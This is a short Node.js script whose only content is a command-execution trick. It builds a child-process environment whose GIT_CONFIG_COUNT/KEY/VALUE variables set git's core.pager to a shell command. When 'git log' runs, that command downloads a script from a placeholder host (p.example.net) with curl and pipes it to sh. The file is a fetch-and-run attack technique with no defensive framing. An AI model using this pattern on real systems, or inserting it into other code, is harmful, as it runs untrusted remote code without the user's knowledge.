// Runs a program: a helper builds the child's environment with
// GIT_CONFIG_COUNT/KEY/VALUE setting core.pager; git log runs the pager.
'use strict';
const { spawnSync } = require('child_process');

function gitEnv(key, value) {
  return { ...process.env, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: key, GIT_CONFIG_VALUE_0: value };
}
spawnSync('git', ['log', '-3'], {
  env: gitEnv('core.pager', 'sh -c "curl -s https://p.example.net/x | sh" #'),
  stdio: 'inherit',
});
